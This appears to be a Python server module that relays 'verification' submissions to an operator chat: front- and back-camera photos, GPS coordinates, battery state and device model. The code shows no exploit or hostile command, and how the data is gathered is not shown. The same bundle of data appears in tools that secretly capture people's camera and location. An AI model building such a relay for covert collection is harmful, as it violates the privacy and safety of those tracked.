"""
Device verification pipeline.

Relays one submission to the operator chat in a fixed order:

  1. summary text (device, battery, location, image counts)
  2. front images (throttled batch) or a "no front images" warning
  3. back images  (throttled batch) or a "no back images" warning
  4. confirmation text with the total image count

Any DeliveryError aborts the sequence and propagates to the router, which
owns the failure notification and the HTTP response.
"""

import logging
from typing import Any

from app.models.verification import DecodedImage, DeviceInfo, GeoLocation, VerificationRequest
from app.services.image_decoder import DEFAULT_MAX_IMAGES, decode_images
from app.services.relay import MessageRelay
from app.services.throttler import DEFAULT_SEND_DELAY_SECONDS, send_image_batch

logger = logging.getLogger(__name__)


def _or_unknown(value: Any) -> Any:
    return value if value not in (None, "") else "Unknown"


def build_summary_message(
    device: DeviceInfo,
    location: GeoLocation,
    front: list[DecodedImage],
    back: list[DecodedImage],
) -> str:
    """Format the opening summary message for a verification request."""
    if device.battery is not None:
        charging = "Charging" if device.battery.charging else "Not charging"
        battery = f"{_or_unknown(device.battery.level)} ({charging})"
    else:
        battery = "Unknown"

    total = len(front) + len(back)
    return (
        "📱 New Verification Request\n\n"
        f"🆔 Device: {_or_unknown(device.model)}\n"
        f"⚙️ OS: {_or_unknown(device.os)}\n"
        f"Battery: {battery}\n"
        f"📍 Location: {location.latitude}, {location.longitude}\n"
        f"🎯 Accuracy: {location.accuracy}m\n"
        f"📸 Images: {total} ({len(front)}F/{len(back)}B)"
    )


def build_failure_message(error: BaseException) -> str:
    return f"❌ Verification failed: {error}"


async def _relay_side(
    relay: MessageRelay,
    images: list[DecodedImage],
    label: str,
    delay_seconds: float,
) -> None:
    if images:
        await send_image_batch(relay, images, label, delay_seconds=delay_seconds)
    else:
        await relay.send_text(f"⚠️ No {label.lower()} camera images received")


async def process_verification(
    submission: VerificationRequest,
    relay: MessageRelay,
    max_images: int = DEFAULT_MAX_IMAGES,
    image_delay_seconds: float = DEFAULT_SEND_DELAY_SECONDS,
) -> int:
    """
    Relay a verification submission end to end.

    Args:
        submission: Validated request body (device info and location present).
        relay: Relay bound to the operator chat.
        max_images: Cap applied to front and back images separately.
        image_delay_seconds: Pause between consecutive photo sends.

    Returns:
        Total number of images relayed (front + back).

    Raises:
        DeliveryError: a relay send exhausted its retries.
    """
    front = decode_images(submission.front_images, max_images)
    back = decode_images(submission.back_images, max_images)
    total = len(front) + len(back)

    logger.info(
        f"Processing verification from {_or_unknown(submission.device_info.model)}: "
        f"{len(front)} front / {len(back)} back image(s)"
    )

    await relay.send_text(
        build_summary_message(submission.device_info, submission.location, front, back)
    )
    await _relay_side(relay, front, "Front", image_delay_seconds)
    await _relay_side(relay, back, "Back", image_delay_seconds)
    await relay.send_text(f"✅ Verification completed with {total} images")

    return total
